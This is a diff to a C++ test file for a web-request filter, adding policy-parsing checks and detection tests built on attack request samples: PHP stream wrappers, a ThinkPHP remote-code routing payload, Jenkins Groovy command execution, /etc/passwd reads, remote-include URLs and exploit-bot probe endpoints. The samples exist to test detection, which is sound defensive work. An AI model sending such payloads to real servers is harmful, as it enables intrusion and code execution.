@@ -124,6 +124,23 @@ TEST_CASE("bad policies name the file and JSON path", "[policy]") {
                       Contains("/version: unsupported policy version 2"));
     CHECK_THROWS_WITH(parse(R"({"inspect_ports": [70000]})"),
                       Contains("/inspect_ports/0: value 70000"));
+    // "not_in": headers that "headers" leaves out.
+    auto left_out = [](const char* json) { return parse(json).pattern_sets.at(0).scope.not_in; };
+    CHECK(left_out(R"({"patterns": {"sets": {"x": {"in": ["any"], "not_in": ["Cookie"],
+                       "literals": ["y"]}}}})") == std::vector<std::string>{"cookie"});
+    CHECK_THROWS_WITH(parse(R"({"patterns": {"sets": {"x": {"in": ["uri", "user-agent"],
+                               "not_in": ["cookie"], "literals": ["y"]}}}})"),
+                      Contains("/patterns/sets/x/not_in/0: \"not_in\" leaves out a header of "
+                               "\"headers\", which \"in\" does not name"));
+    CHECK_THROWS_WITH(parse(R"({"patterns": {"sets": {"x": {"in": ["headers", "cookie"],
+                               "not_in": ["cookie"], "literals": ["y"]}}}})"),
+                      Contains("/patterns/sets/x/not_in/0: \"cookie\" is both in"));
+    CHECK_THROWS_WITH(parse(R"({"patterns": {"sets": {"x": {"not_in": ["body"],
+                               "literals": ["y"]}}}})"),
+                      Contains("/patterns/sets/x/not_in/0: \"not_in\" names headers, not a part"));
+    CHECK_THROWS_WITH(parse(R"({"patterns": {"sets": {"x": {"not_in": ["a b"],
+                               "literals": ["y"]}}}})"),
+                      Contains("/patterns/sets/x/not_in/0"));
     std::string many = R"({"patterns": {"sets": {"x": [)";
     for (int i = 0; i <= BW_MAX_PATTERNS; ++i)
         many += (i ? ",\"p" : "\"p") + std::to_string(i) + "\"";
@@ -334,7 +351,31 @@ TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do
     CHECK(set_hit("GET /p?x=<a+href='&#x6A&#x61&#x76&#x61&#x73'> HTTP/1.1\r\n") == "xss");
     CHECK(set_hit("GET /static/..%2f..%2fapp/main.py HTTP/1.1\r\n") == "traversal");
     CHECK(set_hit("GET /download?f=%2Fetc%2Fpasswd HTTP/1.1\r\n") == "file_access");
-    CHECK(set_hit("GET /page?file=php://filter/resource=index HTTP/1.1\r\n") == "php");
+    // Stream wrappers in a set of their own, in parameters (rfi reads a URL given to file=).
+    CHECK(set_hit("GET /page?file=php://filter/resource=index HTTP/1.1\r\n") == "rfi");
+    CHECK(set_hit("GET /page?q=php://filter/resource=index HTTP/1.1\r\n") == "php_wrappers");
+    CHECK(set_hit("GET /img?f=phar://uploads/a.jpg/x HTTP/1.1\r\n") == "php_wrappers");
+    CHECK(set_hit("POST /x HTTP/1.1\r\n\r\nf=expect://id") == "php_wrappers");
+    // Parameters that name PHP code for a framework to call: ThinkPHP 5's routing exploit,
+    // its class names through an encoded backslash, a method override naming a magic method,
+    // a PHP function as an array parameter's whole value.
+    CHECK(set_hit("GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_"
+                  "func_array&vars[0]=md5&vars[1][]=x HTTP/1.1\r\n") == "php_params");
+    CHECK(set_hit("GET /?s=index/%5Cthink%5CRequest/input&filter=phpinfo&data=1 HTTP/1.1\r\n") ==
+          "php_params");
+    CHECK(set_hit("POST /index.php?s=captcha HTTP/1.1\r\n\r\n_method=__construct&method=get") ==
+          "php_params");
+    CHECK(set_hit("POST /x HTTP/1.1\r\n\r\na=1&filter[]=system&b=id") == "php_params");
+    CHECK(set_hit("GET /x?cb[1][]=call_user_func HTTP/1.1\r\n") == "php_params");
+    // Groovy's String.execute(), as a Jenkins script console runs it.
+    CHECK(set_hit("POST /script HTTP/1.1\r\n\r\nscript=println+%22id%22.execute().text") == "java");
+    CHECK(set_hit("POST /script HTTP/1.1\r\n\r\nscript=%5B%22sh%22%2C%22-c%22%2C%22id%22%5D."
+                  "execute()") == "java");
+    // Endpoints of appliances and frameworks that exploit bots spray.
+    CHECK(set_hit("POST /mgmt/tm/util/bash HTTP/1.1\r\n\r\n{}") == "probes");
+    CHECK(set_hit("POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\n") == "probes");
+    CHECK(set_hit("GET /autodiscover/autodiscover.json?@x.example/owa/ HTTP/1.1\r\n") == "probes");
+    CHECK(set_hit("POST /_ignition/execute-solution HTTP/1.1\r\n\r\n{}") == "probes");
     CHECK(set_hit("GET /page?inc=http://203.0.113.9/shell.txt? HTTP/1.1\r\n") == "rfi");
     CHECK(set_hit("GET /go?u=http:/%5C/%5Cevil.example/x HTTP/1.1\r\n") == "rfi");
     // Loopback spelled in octal, and the address 0.
@@ -483,6 +524,13 @@ TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do
           "GET /search?q=rock+%26+roll%3B+the+cat%27s+toy HTTP/1.1\r\n",
           // Numbers, "or" and "true" in prose, not a comparison.
           "GET /search?q=step+1+or+2+is+true HTTP/1.1\r\n",
+          // PHP functions and magic methods named in prose and searches, a method override,
+          // "think" in a path, execute() of an object, an Exchange autodiscover request.
+          "GET /search?q=system&tags[]=exec+summary&_method=put HTTP/1.1\r\n",
+          "GET /docs?q=__construct+vs+__destruct&f[]=systems HTTP/1.1\r\n",
+          "POST /contact HTTP/1.1\r\n\r\nmsg=we+rethink%2Fapp+design+and+think%2Fapply+it",
+          "POST /api HTTP/1.1\r\n\r\n{\"code\": \"query.execute()\"}",
+          "GET /autodiscover/autodiscover.xml HTTP/1.1\r\n",
           // JSON in a JSON string: its escaped slashes read as four.
           "POST /api HTTP/1.1\r\n\r\n{\"hook\": "
           "\"{\\\"url\\\":\\\"https:\\\\/\\\\/example.com\\\"}\"}",
@@ -694,6 +742,7 @@ TEST_CASE("policies/web.json on the project's corpus: detection and false-positi
 // more tables than the kernel scans"), though they pack.
 TEST_CASE("the shipped policies less one set still compile", "[policy][pack]") {
     for (auto trim : {std::pair{"web.json", "protocol"},
+                      {"web.json", "splitting"},
                       {"web-strict.json", "java"},
                       {"web-strict.json", "scanners"}}) {
         // Not a structured binding: clang 14 cannot capture one in the lambda below.
@@ -709,6 +758,20 @@ TEST_CASE("the shipped policies less one set still compile", "[policy][pack]") {
         for (auto& t : a.tables)
             CHECK(automaton::used_entries(automaton::to_kernel(t)) <= BW_DFA_USABLE);
     }
+}
+
+TEST_CASE("policies/web.json has room for an operator's own set", "[policy][pack]") {
+    auto p = load_policy(std::string(BULWARK_SOURCE_DIR) + "/policies/web.json");
+    PatternSet mine;
+    mine.name = "mine";
+    mine.scope = {};
+    mine.scope.uri = true;
+    mine.literals = {"/internal/debug", "/actuator/env", "x-debug-token"};
+    p.pattern_sets.push_back(mine);
+    automaton::Automaton a;
+    REQUIRE_NOTHROW(a = automaton::compile(all_patterns(p)));
+    CHECK(a.tables.size() <= BW_DFA_TABLES);
+    CHECK(set_of(a, p, "GET /internal/debug HTTP/1.1\r\n") == "mine");
 }
 
 TEST_CASE("rule limits: at most 32 rules of at most 64 bytes", "[policy]") {
